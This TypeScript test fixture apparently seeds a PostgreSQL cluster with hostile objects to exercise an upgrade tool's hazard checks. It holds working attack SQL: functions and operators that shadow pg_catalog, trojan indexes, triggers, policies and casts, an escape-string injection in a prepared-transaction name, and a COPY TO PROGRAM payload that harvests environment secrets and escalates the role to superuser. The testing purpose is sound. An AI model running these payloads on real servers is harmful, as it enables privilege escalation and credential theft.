// What a role that owns a database, and may create objects in every schema "public", can leave for whoever comes by with more rights.
import { readdirSync, readFileSync } from 'node:fs';

export const hostileRole = 'mallory';
export const hostileDatabase = 'mallory_data';

/** What the server's log says where code of the role ran with the rights of another one. */
export const hostileMark = 'HOSTILE';

const sourceDirectories = ['src/database', 'src/hazards', 'src/job', 'src/prechecks', 'src/probes', 'src/upgrade'];

function sources(): string {
  const files = sourceDirectories.flatMap((directory) =>
    readdirSync(directory, { recursive: true, encoding: 'utf8' }).map((file) => `${directory}/${file}`),
  );
  return files
    .filter((file) => /\.(ts|sh)$/.test(file))
    .map((file) => readFileSync(file, 'utf8'))
    .join('\n');
}

/** Each word and each operator that our SQL may mention: all that the sources have, which is more. */
export function mentionedNames(): { readonly words: readonly string[]; readonly operators: readonly string[] } {
  const text = sources();
  return {
    words: [...new Set(text.toLowerCase().match(/[a-z_][a-z0-9_]*/g))],
    operators: [...new Set(text.match(/[-+*/<>=~!@#%^&|?]+/g))],
  };
}

const arrayOf = (names: readonly string[]) => `'{${names.map((name) => `"${name}"`).join(',')}}'`;

/** Runs with the rights of whoever calls it: tells the log, and tries to make the role a superuser and to learn what the server's environment has. */
const attack = `
CREATE TABLE public.ran (what text, who name, session name); GRANT INSERT ON public.ran TO PUBLIC;
CREATE FUNCTION public.attack(what text) RETURNS bool LANGUAGE plpgsql SET search_path = pg_catalog AS $attack$
BEGIN
  IF current_user = '${hostileRole}' THEN RETURN true; END IF;
  RAISE LOG '${hostileMark} % ran as %, session of %', what, current_user, session_user;
  BEGIN EXECUTE 'ALTER ROLE ${hostileRole} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('INSERT INTO public.ran VALUES (%L, current_user, session_user)', what); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    EXECUTE $copy$COPY (SELECT 1) TO PROGRAM $program$exec 2>/dev/null; cat >/dev/null; cd "$PWD/.."; env >stolen; cat /proc/[0-9]*/environ | tr '\\000' '\\n' >>stolen
secret=$(sed -n 's/^PASSWORD=//p' stolen | head -n 1); PGPASSWORD=$secret psql -h "$(sed -n 's/^HOST=//p' stolen | head -n 1)" -U postgres -d template1 -c 'ALTER ROLE ${hostileRole} SUPERUSER'
true$program$ $copy$;
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $attack$;`;

/**
 * A better match, or an equal one, for every call in our SQL of what pg_catalog has under that name: each overload with its own argument types, and with each
 * one that is converted without being asked to in the place of one of them or of all; functions of any arguments with one and two of each type, and
 * with more.
 */
function shadows({ words, operators }: ReturnType<typeof mentionedNames>): string {
  return `
SET check_function_bodies = off;
DO $do$
DECLARE
  words name[] := ${arrayOf(words)};
  types oid[] := '{text,name,oid,int4,int8,int2,bool,json,jsonb,regclass,regproc,char,float8,numeric,timestamptz,xid,pg_lsn,_text,_oid,_name,int2vector,oidvector,unknown}'::text[]::regtype[];
  operands oid[] := '{text,name,oid,int4,int8,bool,regclass,char,float8,_text,_oid}'::text[]::regtype[];
  f record;
  list text;
BEGIN
  FOR f IN
    WITH found AS (
      SELECT oid, proname, proargtypes::oid[] AS args, prokind, proretset, CASE WHEN prorettype::regtype::text ~ '^any|^record|^internal|^cstring|^trigger' THEN 'text'::regtype ELSE prorettype::regtype END AS result, provariadic
      FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND proname = ANY (words) AND prokind IN ('f', 'a')
        AND NOT proargtypes::oid[] && '{internal,cstring,trigger,event_trigger,language_handler}'::text[]::regtype[]::oid[]),
    stands_for(original, type) AS (
      SELECT casttarget, castsource FROM pg_cast WHERE castcontext = 'i'
      UNION SELECT p::regtype::oid, t FROM unnest('{anyelement,anynonarray,anyenum,"\\"any\\"",anyarray}'::text[]) p, unnest(types) t
      UNION SELECT t, t FROM pg_type CROSS JOIN LATERAL (SELECT pg_type.oid AS t) o),
    variants AS (
      SELECT oid, args FROM found
      UNION SELECT oid, (SELECT array_agg(CASE WHEN n = i THEN s.type ELSE a END ORDER BY n) FROM unnest(args) WITH ORDINALITY u(a, n))
        FROM found, generate_subscripts(args, 1) i JOIN LATERAL (SELECT type FROM stands_for WHERE original = args[i]) s ON true
      UNION SELECT oid, (SELECT array_agg(CASE WHEN EXISTS (SELECT FROM stands_for WHERE original = a AND type = t) THEN t ELSE a END ORDER BY n) FROM unnest(args) WITH ORDINALITY u(a, n))
        FROM found, unnest(types) t
      UNION SELECT oid, ARRAY[t] FROM found, unnest(types) t WHERE provariadic <> 0
      UNION SELECT oid, ARRAY[t, u] FROM found, unnest(types) t, unnest(types) u WHERE provariadic <> 0
      UNION SELECT oid, (SELECT array_agg(CASE WHEN n % 2 = 1 THEN 'text'::regtype::oid ELSE t END) FROM generate_series(1, k) n) FROM found, unnest(types) t, generate_series(3, 12) k WHERE provariadic <> 0)
    SELECT DISTINCT proname, prokind, proretset, result, v.args FROM variants v JOIN found USING (oid)
  LOOP
    BEGIN
      SELECT string_agg(a::regtype::text, ', ' ORDER BY n) INTO list FROM unnest(f.args) WITH ORDINALITY u(a, n);
      IF f.prokind = 'f' THEN
        EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.attack(%L); RETURN %s; END $f$',
          f.proname, list, CASE WHEN f.proretset THEN 'SETOF ' ELSE '' END || f.result, f.proname || '(' || coalesce(list, '') || ')', CASE WHEN f.proretset THEN '' ELSE 'NULL' END);
      ELSE
        BEGIN
          EXECUTE format('CREATE FUNCTION public.hostile_step(text%s) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.attack(''an aggregate''); RETURN NULL; END $f$', coalesce(', ' || list, ''));
        EXCEPTION WHEN duplicate_function THEN NULL;
        END;
        EXECUTE format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.hostile_step, STYPE = text)', f.proname, coalesce(list, '*'));
      END IF;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  FOR f IN SELECT DISTINCT oprname, l, r, result FROM (
      SELECT oprname, bool_or(oprresult = 'bool'::regtype) AS bools FROM pg_operator
        WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprname = ANY (${arrayOf(operators)}::name[]) GROUP BY oprname) o,
      LATERAL (SELECT CASE WHEN bools THEN 'bool' ELSE 'text' END AS result) s, unnest(operands) l, unnest(operands) r
  LOOP
    BEGIN
      BEGIN
        EXECUTE format('CREATE FUNCTION public.hostile_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.attack(''an operator''); RETURN NULL; END $f$', f.result, f.l::regtype, f.r::regtype, f.result);
      EXCEPTION WHEN duplicate_function THEN NULL;
      END;
      EXECUTE format('CREATE OPERATOR public.%s (FUNCTION = public.hostile_%s, LEFTARG = %s, RIGHTARG = %s)', f.oprname, f.result, f.l::regtype, f.r::regtype);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  FOR f IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') AND relname = ANY (words) LOOP
    BEGIN
      EXECUTE format('CREATE VIEW public.%I AS SELECT * FROM pg_catalog.%1$I WHERE public.attack(''a view'')', f.relname);
      EXECUTE format('GRANT SELECT ON public.%I TO PUBLIC', f.relname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  FOR f IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typname = ANY (words) LOOP
    BEGIN
      EXECUTE format('CREATE DOMAIN public.%I AS text CHECK (public.attack(''a domain''))', f.typname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $do$;`;
}

/** What the role leaves in its own database that a restore does not run as anybody else: code of indexes, checks, triggers, rules, views, policies, statistics. */
const objects = `
CREATE TABLE public.victims (id int PRIMARY KEY, t text, u int);
INSERT INTO public.victims SELECT n, 'x' || n, n FROM pg_catalog.generate_series(1, 100) n;
CREATE FUNCTION public.computed(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.attack('an index'); RETURN $1; END $f$;
CREATE FUNCTION public.constant() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.attack('a constant of an index'); RETURN 1; END $f$;
CREATE INDEX victims_computed ON public.victims (public.computed(u), t);
CREATE INDEX victims_constant ON public.victims (t) WHERE u OPERATOR(pg_catalog.>) public.constant();
CREATE MATERIALIZED VIEW public.seen AS SELECT id, t FROM public.victims; CREATE INDEX seen_constant ON public.seen ((id OPERATOR(pg_catalog.+) public.constant()), t);
CREATE DOMAIN public.checked AS text CHECK (public.attack('the check of a domain')); CREATE TABLE public.of_domain (a public.checked DEFAULT 'x'); INSERT INTO public.of_domain VALUES ('x');
CREATE TABLE public.checks (a int CHECK (a OPERATOR(pg_catalog.>=) public.constant()), b int DEFAULT public.constant());
CREATE FUNCTION public.fires() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.attack('a trigger'); RETURN NULL; END $f$;
CREATE TRIGGER fires BEFORE INSERT OR UPDATE OR DELETE ON public.victims FOR EACH ROW EXECUTE FUNCTION public.fires();
CREATE RULE rewritten AS ON INSERT TO public.checks DO INSTEAD SELECT public.attack('a rule');
CREATE VIEW public.looks AS SELECT public.attack('a view of rows') AS a, t FROM public.victims;
ALTER TABLE public.checks ENABLE ROW LEVEL SECURITY; ALTER TABLE public.checks FORCE ROW LEVEL SECURITY; CREATE POLICY hides ON public.checks USING (public.attack('a policy'));
CREATE STATISTICS public.correlated ON t, u FROM public.victims;
CREATE AGGREGATE public.hostile_sum(int) (SFUNC = pg_catalog.int4pl, STYPE = int, INITCOND = '0');
CREATE TYPE public.hostile_type AS (a public.checked); CREATE FUNCTION public.hostile_text(public.hostile_type) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.attack('a cast'); RETURN ''; END $f$;
CREATE CAST (public.hostile_type AS text) WITH FUNCTION public.hostile_text(public.hostile_type) AS IMPLICIT;
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC; ALTER DEFAULT PRIVILEGES GRANT EXECUTE ON FUNCTIONS TO PUBLIC;`;

/** What the check `restored-code` is for; PostgreSQL runs it as the superuser in a restore, and the partition key in each ANALYZE, too. */
export const restoredObjects = `
CREATE FUNCTION public.hostile_add(public.checked, text) RETURNS public.checked LANGUAGE sql AS 'SELECT $1';
CREATE AGGREGATE public.hostile_aggregate(text) (SFUNC = public.hostile_add, STYPE = public.checked, INITCOND = 'x');
CREATE TABLE public.hostile_list (a public.checked) PARTITION BY LIST (a); CREATE TABLE public.hostile_list_1 PARTITION OF public.hostile_list FOR VALUES IN ('x');
CREATE VIEW public.hostile_array AS SELECT '{x}'::public.checked[] AS a;
CREATE TABLE public.hostile_parent (a int, CHECK (a OPERATOR(pg_catalog.>) public.constant())); CREATE TABLE public.hostile_child () INHERITS (public.hostile_parent);
CREATE TABLE public.hostile_referring (a int REFERENCES public.victims); CREATE INDEX hostile_referring_index ON public.hostile_referring ((a OPERATOR(pg_catalog.+) public.constant()));`;

/** A partition key and a generated column: nothing but a person's word takes these away. */
export const restoredKeys = `
CREATE TABLE public.hostile_key (a int, b text) PARTITION BY RANGE ((a OPERATOR(pg_catalog.+) public.constant()));
CREATE TABLE public.hostile_key_1 PARTITION OF public.hostile_key FOR VALUES FROM (1) TO (1000); CREATE INDEX ON public.hostile_key (b);
CREATE INDEX hostile_key_constant ON public.hostile_key ((a OPERATOR(pg_catalog.+) public.constant()));
CREATE TABLE public.hostile_generated (a int, b int GENERATED ALWAYS AS (a OPERATOR(pg_catalog.+) public.constant()) STORED);`;

/** What the role leaves in a database of its own for pg_upgrade's restore, beside what the check `restored-code` names by pg_depend. */
export type RestoredDatabase = 'chain' | 'rewrite' | 'missing' | 'bounds' | 'builtin' | 'exclusion';

/** A large object that only a superuser can make from a file of the server. */
export const importedObject = 424242;

/**
 * Functions `ran()` and `one(int)`, the latter for what has to be immutable.
 * @param file of the server's user, which gets a line with the database and the server's version where they run as a superuser
 */
export function tellingFunctions(file: string): string {
  return `
CREATE FUNCTION public.ran() RETURNS bool LANGUAGE plpgsql AS $f$
BEGIN
  IF current_setting('is_superuser') = 'on' THEN
    EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', format('cat >/dev/null; echo %s in %s >>${file}', current_database(), current_setting('server_version_num')::int / 10000));
  END IF;
  RETURN true;
END $f$;
CREATE FUNCTION public.one(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.ran(); RETURN 1; END $f$;`;
}

/**
 * By database, a script for the role's own session.
 * @param file see `tellingFunctions`
 */
export function restoredDatabases(file: string): Readonly<Record<RestoredDatabase, string>> {
  const ran = tellingFunctions(file);
  const aggregate = `CREATE FUNCTION s(d, int) RETURNS d LANGUAGE sql AS 'SELECT $1'; CREATE AGGREGATE a(int) (SFUNC = s, STYPE = d, INITCOND = '1');`;
  const rewritten = (condition: string) =>
    `ts_rewrite('a'::tsquery, $q$SELECT 'a'::tsquery, 'b'::tsquery WHERE ${condition}$q$) IS NOT NULL`;
  return {
    chain: `${ran} CREATE DOMAIN inner_d AS int CHECK (public.ran()); CREATE DOMAIN d AS int CHECK (VALUE::inner_d IS NOT NULL); ${aggregate}`,
    rewrite: `${ran} CREATE DOMAIN d AS int CHECK (${rewritten('public.ran()')}); ${aggregate}`,
    missing: `${ran} CREATE DOMAIN d AS int; CREATE TABLE t (a int); INSERT INTO t VALUES (1); ALTER TABLE t ADD COLUMN b d DEFAULT 1; ALTER DOMAIN d ADD CHECK (public.ran());`,
    bounds: `${ran} CREATE DOMAIN d AS int CHECK (public.ran()); CREATE TABLE p (c d) PARTITION BY LIST (coalesce(c, c)); CREATE TABLE p1 PARTITION OF p FOR VALUES IN (1);`,
    builtin: `CREATE DOMAIN d AS int CHECK (CASE WHEN current_setting('is_superuser') = 'on' THEN ${rewritten(`lo_import('/etc/hostname', ${String(importedObject)}) > 0`)} ELSE true END); ${aggregate}`,
    exclusion: `${ran} ALTER DATABASE exclusion SET constraint_exclusion = on; CREATE TABLE k (a int PRIMARY KEY); CREATE TABLE f (a int REFERENCES k, CHECK (a > public.one(1)));`,
  };
}

/** A prepared transaction whose name ends its literal where a backslash is an escape. */
export const hostileGid = `\\'; ALTER ROLE ${hostileRole} SUPERUSER; --`;

/** By database, a script for the role's own session: objects whose remedies would have the superuser run the code of the role. */
export function remediedDatabases(
  file: string,
): Readonly<Record<'gids' | 'operators' | 'columns' | 'casts' | 'children', string>> {
  const ran = tellingFunctions(file);
  return {
    gids: `ALTER DATABASE gids SET standard_conforming_strings = off; CREATE TABLE t (); BEGIN; DROP TABLE t; PREPARE TRANSACTION '${hostileGid.replaceAll("'", "''")}';`,
    operators: `${ran} CREATE TABLE t (a int); CREATE FUNCTION same(oid, int) RETURNS bool LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.ran(); RETURN pg_catalog.oideq($1, $2::oid); END $f$;
CREATE OPERATOR public.= (FUNCTION = public.same, LEFTARG = oid, RIGHTARG = int);`,
    columns: `${ran} CREATE TABLE t (r regproc, CHECK (r IS NOT NULL AND public.ran())); INSERT INTO t VALUES ('now');`,
    casts: `${ran} CREATE TYPE pair AS (r regproc); CREATE FUNCTION pair_text(pair) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.ran(); RETURN 'x'; END $f$;
CREATE CAST (pair AS text) WITH FUNCTION pair_text(pair); GRANT USAGE ON TYPE pair TO PUBLIC;`,
    children: `${ran} CREATE TABLE parent (a int NOT NULL); CREATE TABLE child (a int NOT NULL, CHECK (a > public.one(1))); ALTER TABLE child INHERIT parent; ALTER TABLE child ALTER a DROP NOT NULL;`,
  };
}

/**
 * Each parameter that the role may set, at another value than it has; 14 lacks those that are left out, which another check tells, but for
 * idle_session_timeout, which only PostgreSQL 14 has: at a single millisecond, a session of ours may be ended before its first statement.
 */
const settings = `
DO $do$
DECLARE s record;
BEGIN
  FOR s IN
    SELECT name, CASE vartype WHEN 'bool' THEN CASE setting WHEN 'on' THEN 'off' ELSE 'on' END WHEN 'enum' THEN (SELECT max(e) FROM unnest(enumvals) e WHERE e <> setting)
        WHEN 'integer' THEN CASE WHEN name ~ 'timeout' THEN '1' WHEN name ~ 'mem|buffers' THEN min_val ELSE coalesce(nullif(min_val, setting), max_val) END WHEN 'real' THEN coalesce(nullif(min_val, setting), max_val) END AS value
      FROM pg_catalog.pg_settings WHERE context = 'user' AND name NOT IN ('operator_precedence_warning', 'vacuum_cleanup_index_scale_factor', 'password_encryption', 'idle_session_timeout')
    UNION ALL VALUES ('search_path', 'public, pg_catalog'), ('datestyle', 'German, DMY'), ('timezone', 'Asia/Kathmandu'), ('temp_tablespaces', ''), ('role', '${hostileRole}'),
      ('session_authorization', '${hostileRole}')
  LOOP
    BEGIN
      IF s.value IS NOT NULL THEN
        EXECUTE format('ALTER DATABASE ${hostileDatabase} SET %I = %s', s.name, CASE s.name WHEN 'search_path' THEN s.value ELSE quote_literal(s.value) END);
        EXECUTE format('ALTER ROLE ${hostileRole} SET %I = %s', s.name, CASE s.name WHEN 'search_path' THEN s.value ELSE quote_literal(s.value) END);
      END IF;
    EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', s.name, SQLERRM;
    END;
  END LOOP;
END $do$;`;

/** What the superuser does first, and after template1 has the shadows. */
export const makeRole = `CREATE ROLE ${hostileRole} LOGIN;`;
export const makeDatabase = `CREATE DATABASE ${hostileDatabase} OWNER ${hostileRole};`;

/** For each database, in a session of the superuser's that has become the role: its shadows. */
export function shadowScript(): string {
  return [
    `GRANT CREATE ON SCHEMA public TO ${hostileRole}; SET SESSION AUTHORIZATION ${hostileRole}; SET search_path = pg_catalog, pg_temp;`,
    attack,
    shadows(mentionedNames()),
    'RESET SESSION AUTHORIZATION;',
  ].join('\n');
}

/** For the role's own database, after its shadows: objects, and last the settings. */
export function ownScript(...more: readonly string[]): string {
  const session = `SET SESSION AUTHORIZATION ${hostileRole}; SET search_path = pg_catalog, pg_temp;`;
  return [session, objects, ...more, settings, 'RESET SESSION AUTHORIZATION;'].join('\n');
}
